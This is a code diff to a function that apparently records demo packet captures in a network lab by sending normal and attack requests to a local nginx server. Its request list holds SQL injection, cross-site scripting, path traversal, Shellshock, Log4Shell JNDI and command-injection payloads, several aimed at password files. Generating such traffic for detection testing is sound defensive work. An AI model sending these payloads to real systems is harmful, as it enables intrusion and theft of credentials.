@@ -79,8 +79,8 @@ def record_demo(out: pathlib.Path, work: pathlib.Path):
         servers.start_nginx(lab, work, site)
         capture = servers.Capture(lab, out / "demo.pcap", expression="tcp")
         port = servers.PORTS["nginx"]
-        clean_traffic.browse(lab, work, lab.server4, port)
-        agent = ["-A", attack_traffic.AGENT, "-H", "Host: shop.example", "-s", "-m", "10", "-o", "/dev/null"]
+        clean_traffic.browse(lab, work, lab.server4, port, "shop.example")
+        agent = ["-H", "Host: shop.example", "-s", "-m", "10", "-o", "/dev/null"]
         base = f"http://{lab.server4}:{port}"
         for words in (
             [f"{base}/style.css", f"{base}/small.txt?q=red+shoes&page=2"],
@@ -89,10 +89,11 @@ def record_demo(out: pathlib.Path, work: pathlib.Path):
             [f"{base}/app/item?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--%20-"],
             ["-d", "comment=%3Cscript%3Ealert(document.cookie)%3C/script%3E", f"{base}/app/contact"],
             ["--path-as-is", f"{base}/app/download?file=../../../../etc/passwd"],
-            ["-H", "X-Api-Version: ${jndi:ldap://203.0.113.9/a}", f"{base}/app/"],
+            ["-A", "() { :;}; /bin/bash -c 'id'", f"{base}/app/cgi/status"],
             ["-H", "Content-Type: application/json", "-d", '{"host":"127.0.0.1; cat /etc/passwd"}', f"{base}/app/ping"],
         ):
-            lab.run("client", "curl", *agent, *words)
+            browser = [] if "-A" in words else ["-A", attack_traffic.AGENT]
+            lab.run("client", "curl", *agent, *browser, *words)
         capture.stop()
 
 
